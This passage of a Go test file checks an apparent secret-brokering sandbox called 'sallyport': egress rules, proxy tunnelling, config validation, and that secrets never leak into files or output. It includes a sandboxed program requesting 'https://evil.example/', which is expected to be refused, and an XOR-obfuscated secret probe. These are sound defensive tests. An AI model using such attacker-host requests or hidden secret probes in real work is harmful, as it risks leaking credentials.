                    at = text.find(first, at + 1)
    return found
print("found", search())
held = bytes(c ^ 3 for c in b"wkf.qfbo.ubovf")
print("control", search() > 0)
`

// nothingKept looks for the value in everything that sallyport has written.
func (w *outWorld) nothingKept(t *testing.T) {
	t.Helper()
	err := filepath.WalkDir(w.dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		if bytes.Contains(text, []byte(brokeredValue)) {
			t.Errorf("%s has the value in it", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestEgressThatCannotWork: config check says so, and what would mend it.
func TestEgressThatCannotWork(t *testing.T) {
	t.Parallel()
	w := newOutWorld(t, "stop")
	path := filepath.Join(w.dir, "sallyport.yaml")
	good, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	own := "package sallyport.rules.own\n\n# METADATA\n# title: No network\n# custom:\n#   id: own/network\n#   capability: network\n" +
		"deny contains {\"rule\": \"own/network\", \"message\": \"no\"} if \"x\" in input.source.names\n"
	open := filepath.Join(w.dir, "open")
	if err := errors.Join(os.Mkdir(filepath.Join(w.dir, "own"), 0o700), os.Mkdir(open, 0o700), os.Chmod(open, 0o777)); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(w.dir, "own", "own.rego"), []byte(own), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ old, new, want string }{
		{"policy: {", "policy: {dirs: [own], ", "rule own/network denies the network"},
		{"host: example.com", "host: 10.0.0.1", "is an address"},
		{"env: REAL_KEY", "env: NO_KEY", "NO_KEY is not set"},
		{"env: REAL_KEY", "exec: [no-such-vault]", "secret KEY: no no-such-vault on PATH"},
		{"ca: ca.pem", "proxy: 'socks5://proxy.example:1080'", "write http://host:port"},
		{"ca: ca.pem", "proxy: 'http://me:literal-secret@proxy.example:1080'", "its password does not stand in a configuration"},
		{"ca: ca.pem", "proxy: 'http://me@proxy.example:1080'", "a user needs a password"},
		{"ca: ca.pem", "proxy: 'http://me@proxy.example:1080'\n      proxy_password: {env: NO_KEY}", "password of the egress proxy: NO_KEY is not set"},
		{"ca: ca.pem", "proxy: 'http://me@proxy.example:1080'\n      proxy_password: {exec: [no-such-vault]}", "no no-such-vault on PATH"},
		{"ca: ca.pem", "ca: none.pem", "the certificates of hosts"},
		{"ca: ca.pem", "ca: open/ca.pem", "the certificates of hosts: everybody can write"},
		{"host: example.com", "host: '*.example.com'", "more than one host"},
		{"paths: [/v1/*]", "opaque: true", "nobody sees methods and paths"},
		{"methods: [GET, POST], paths: [/v1/*]", "opaque: true", "is opaque: nobody looks into its requests"},
		{"{rule: api}", "{rule: api, sign: sigv4, regions: [eu-central-1], services: [s3]}", "secrets with a broker of their own"},
		{"{rule: api}", "{rule: api, id: KEY}", "are for sign: sigv4"},
	} {
		if err := os.WriteFile(path, []byte(strings.Replace(string(good), tt.old, tt.new, 1)), 0o600); err != nil {
			t.Fatal(err)
		}
		if status, out := w.invoke("config", "check"); status == 0 || !strings.Contains(out, tt.want) || strings.Contains(out, "literal-secret") {
			t.Errorf("%d %s, want %q", status, out, tt.want)
		}
	}
}

// TestThroughAProxy reaches a host, whose name nobody knows here, through a proxy
// that wants a password, which a command prints.
func TestThroughAProxy(t *testing.T) {
	t.Parallel()
	if !requireRunsc(t) {
		t.Skip("no runsc")
	}
	w := newOutWorld(t, "stop")
	const password = "the-proxy-password-0123"
	var asked, refused atomic.Int64
	up := httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		r.Header["Authorization"] = r.Header["Proxy-Authorization"]
		if user, p, _ := r.BasicAuth(); r.Method != http.MethodConnect || r.Host != "nowhere.example.com:"+w.port || user != "me" || p != password {
			refused.Add(1)
			out.WriteHeader(http.StatusProxyAuthRequired)
			return
		}
		asked.Add(1)
		host, err := net.Dial("tcp", "127.0.0.1:"+w.port)
		if err != nil {
			t.Error(err)
			return
		}
		defer host.Close()
		c, _, err := out.(http.Hijacker).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		defer c.Close()
		_, _ = io.WriteString(c, "HTTP/1.1 200 Connection established\r\n\r\n")
		go func() { _, _ = io.Copy(host, c) }()
		_, _ = io.Copy(c, host)
	}))
	t.Cleanup(up.Close)
	w.configure(t, "host: example.com", "host: nowhere.example.com")
	w.configure(t, ", addresses: [127.0.0.1]", "")
	w.configure(t, "ca: ca.pem", fmt.Sprintf("ca: ca.pem\n      proxy: http://me@%s\n      proxy_password: {exec: [echo, wrong]}", up.Listener.Addr()))
	program := pythonGet + `print(get("https://nowhere.example.com:PORT/v1/x", Authorization="Bearer " + KEY))`
	check := func(status int, out, want string, n int64) {
		t.Helper()
		if status != 0 || !strings.Contains(out, want) || asked.Load() != n || w.other.Load() != n || w.withSecret.Load() != n || strings.Contains(out, password) {
			t.Errorf("%d, %d tunnels, %d requests, %d with the secret, %d refused:\n%s", status, asked.Load(), w.other.Load(), w.withSecret.Load(), refused.Load(), out)
		}
	}
	status, out := w.run(t, "a.py", program)
	check(status, out, "the host cannot be reached", 0)
	if refused.Load() != 1 {
		t.Errorf("the proxy refused %d tunnels", refused.Load())
	}
	w.configure(t, "[echo, wrong]", "[echo, "+password+"]")
	if status, out := w.invoke("config", "check"); status != 0 {
		t.Errorf("config check: %d %s", status, out)
	}
	status, out = w.run(t, "a.py", program)
	check(status, out, "(200, 'hello /v1/x", 1)
	status, out = w.invoke("audit", "search")
	if status != 0 || strings.Contains(out, password) {
		t.Errorf("%d %s", status, out)
	}
	w.nothingKept(t)
}

// TestEgressOnEach takes a program through all of it on every backend.
func TestEgressOnEach(t *testing.T) { onEach(t, egressOnEach) }

func egressOnEach(t *testing.T, _ string, world func(runtime string) *outWorld) {
	w := world("stop")
	w.configure(t, "allow: [", "allow: [{name: unseen, host: unseen.example.com, ports: ["+w.port+"], opaque: true, addresses: [127.0.0.1]}, ")
	if status, out := w.invoke("config", "check"); status != 0 {
		t.Fatalf("config check: %d %s", status, out)
	}
	status, out := w.run(t, "a.py", pythonGet+`
print(get("https://example.com:PORT/v1/x", Authorization="Bearer " + KEY))
print(get("https://evil.example/"))
print(get("https://unseen.example.com:PORT/v2/x", Authorization="Bearer " + KEY))
`)
	if status != 0 || w.seen.Load() != 1 || w.other.Load() != 1 || w.withSecret.Load() != 1 || strings.Contains(out, "socket(") ||
		!strings.Contains(out, "(200, 'hello /v1/x") || !strings.Contains(out, "(200, 'hello /v2/x") || !strings.Contains(out, "GET https://evil.example/: host is not allowed") {
		t.Errorf("%d, %d requests, %d with the secret:\n%s", status, w.seen.Load(), w.withSecret.Load(), out)
	}
	if n := w.refusals(t)["host is not allowed"]; n != 1 {
		t.Errorf("%d refusals on record", n)
	}
	w.nothingKept(t)
}
